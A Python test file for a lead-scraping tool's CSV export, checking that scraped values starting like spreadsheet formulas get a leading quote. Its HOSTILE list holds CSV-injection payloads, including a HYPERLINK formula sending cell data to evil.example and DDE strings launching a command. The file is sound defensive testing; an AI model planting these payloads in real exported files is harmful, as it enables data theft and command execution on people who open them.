"""`leads export --format csv`: scraped text never becomes a live spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import json

import pytest
from leadq.cli.app import app
from typer.testing import CliRunner

from leadq.db import session_scope
from leadq.leads.record import LeadRecord
from leadq.leads.spreadsheet import csv_cell
from leadq.leads.store import upsert_lead

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Greenleaf", "", "a=b", " =x", 4.5, 12, None])
def test_other_values_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_export_writes_hostile_names_as_text_and_jsonl_unchanged(cli_env, tmp_path):
    with session_scope(cli_env) as session:
        for number, name in enumerate(HOSTILE):
            upsert_lead(
                LeadRecord(source="craigslist", external_id=str(number), name=name, site="sfbay"),
                session=session,
            )
    out = tmp_path / "leads.csv"
    result = CliRunner().invoke(app, ["leads", "export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0
    names = [row["name"] for row in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    assert len(names) == len(HOSTILE) and all(name.startswith("'") for name in names)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    jsonl = tmp_path / "leads.jsonl"
    CliRunner().invoke(app, ["leads", "export", "--format", "jsonl", "--out", str(jsonl)])
    raw_names = [json.loads(line)["name"] for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert not any(name.startswith("'") for name in raw_names)
